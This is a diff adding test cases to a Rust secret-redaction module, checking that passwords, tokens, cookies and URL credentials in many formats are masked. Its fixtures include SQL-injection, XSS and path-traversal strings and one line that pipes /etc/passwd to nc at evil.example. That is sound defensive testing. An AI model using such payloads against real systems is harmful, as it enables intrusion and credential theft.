@@ -12,6 +12,7 @@
 mod card;
 mod keyed;
 mod name;
+mod pair;
 mod token;
 mod undone;
 
@@ -119,6 +120,36 @@ mod tests {
             ("<input name='password' value='zpw'><script>", "<input name='password' value='***'><script>"),
             ("password = \"\"\"zpw\"\"\"", "password = \"\"\"***\"\"\""),
             (r"4929\n4929\n4929\n4929' or", "***' or"),
+            ("Authorization: Token token=\"zpw\", nonce=\"x\"\nq", "Authorization: ***\nq"),
+            ("x Digest username=\"bob\", response=\"zpw\"", "x Digest ***"),
+            ("Cookie: a=1; a=zpw", "Cookie: ***"),
+            ("Set-Cookie: a=\"1\"; a=zpw", "Set-Cookie: ***"),
+            ("document.cookie='a=1; b=2'", "document.cookie='***'"),
+            ("document.cookie=a=1; b=2", "document.cookie=***"),
+            ("bearer \"zpw\"", "bearer \"***\""),
+            ("bearer:zpw", "bearer:***"),
+            ("password(zpw)", "password(***)"),
+            ("curl -u bob:zpw http://x/", "curl -u *** http://x/"),
+            ("curl --user 'bob:zpw'", "curl --user '***'"),
+            ("//bob:zpw@host/", "//***@host/"),
+            ("postgres://bob:a/zpw@host", "postgres://***@host"),
+            ("password=hun'ter2zz", "password=***"),
+            ("password=hun&ter2zz", "password=***"),
+            ("password=hun;ter2zz", "password=***"),
+            ("password=hun<ter2zz", "password=***"),
+            ("password=hunter2' or 1=1", "password=***' or 1=1"),
+            ("password=zpw\"><script>", "password=***\"><script>"),
+            ("password<>'zpw'", "password<>'***'"),
+            ("password != 'zpw'", "password != '***'"),
+            ("password LIKE 'zpw'", "password LIKE '***'"),
+            ("password=md5('zpw')", "password=***"),
+            ("password=concat('a','zpw')", "password=***"),
+            ("{\"key\":\"password\",\"val\":\"zpw\"}", "{\"key\":\"password\",\"val\":\"***\"}"),
+            ("{\"value\":\"zpw\",\"name\":\"password\"}", "{\"value\":\"***\",\"name\":\"password\"}"),
+            ("[\"password\", \"zpw\"]", "[\"password\", \"***\"]"),
+            ("<field name=\"password\">zpw</field>", "<field name=\"password\">***</field>"),
+            ("<key>password</key><string>zpw</string>", "<key>password</key><string>***</string>"),
+            ("s:8:\"password\";s:3:\"zpw\";", "s:8:\"password\";s:3:\"***\";"),
             (r#"{"a":"b\npin=zpw"}"#, r#"{"a":"b\npin=***"}"#),
             ("{\\\"pin\\\":\\\"a\\\\\\\"b\\\"}", "{\\\"pin\\\":\\\"***\\\"}"),
         ] {
@@ -131,6 +162,9 @@ mod tests {
         for text in [
             "1' union select name from users--",
             "1'/**/UNION/**/SELECT/**/1,2,3,4,5,6,7,8,9,10,11,12,13,14,15,16--",
+            "1' union select password from users-- ",
+            "1' and password or session where cookie union select token into x",
+            "<script>alert(document.cookie)</script>",
             "' or '1'='1",
             "../../../../etc/passwd",
             "cat /etc/passwd | nc evil.example 4444",
@@ -180,6 +214,14 @@ mod tests {
             ("http://u:p@x/?q=1", "http://***@x/?q=1"),
             ("u=http%3A%2F%2Fu%3Ap%40x%2F", "u=http%3A%2F%2F***%40x%2F"),
             ("pass=a&sid=b&q=1", "pass=***&sid=***&q=1"),
+            ("q=Cookie%3A%20a%3D1%3B%20b%3D2&q=1", "q=Cookie%3A%20***&q=1"),
+            (
+                r#"{"a":"Authorization: Token token=\"zpw\", nonce=\"x\"","q":"<script>"}"#,
+                r#"{"a":"Authorization: ***","q":"<script>"}"#,
+            ),
+            ("auth=a&q=1", "auth=***&q=1"),
+            ("value=a&name=password&q=1", "value=***&name=password&q=1"),
+            ("password != 'zpw' or 1=1", "password != '***' or 1=1"),
             ("password=", "password="),
             ("password", "password"),
         ] {
